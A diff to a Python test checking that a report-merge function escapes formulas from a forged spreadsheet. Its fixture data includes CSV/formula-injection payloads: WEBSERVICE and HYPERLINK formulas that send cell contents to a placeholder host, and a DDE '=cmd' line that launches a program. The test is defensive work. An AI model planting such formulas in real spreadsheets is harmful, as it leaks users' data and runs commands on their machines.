@@ -100,7 +100,7 @@ def test_merge_of_a_forged_commune_file_writes_texts_as_text(office_db, workspac
             sheet_text.put(row[1], '=WEBSERVICE("http://x/?"&A2)')
         elif key == "made_by":
             sheet_text.put(row[1], '=HYPERLINK("http://x/"&B3)')
-        elif key == "made_at":
+        elif key == "period_label":
             sheet_text.put(row[1], "@SUM(A1)")
     wb.save(forged)
     report = merge_reports([good, forged], tmp_path / "tong-hop.xlsx")
@@ -111,7 +111,7 @@ def test_merge_of_a_forged_commune_file_writes_texts_as_text(office_db, workspac
     shown = {v for sheet in texts.values() for _r, v, _q in sheet}
     assert "=cmd|' /C calc'!A0" in shown
     quoted = {v for sheet in texts.values() for _r, v, q in sheet if q}
-    assert "=cmd|' /C calc'!A0" in quoted
+    assert "=cmd|' /C calc'!A0" in quoted and '=HYPERLINK("http://x/"&B3)' in quoted
 
 
 @pytest.mark.skipif(not (shutil.which("libreoffice") or shutil.which("soffice")),
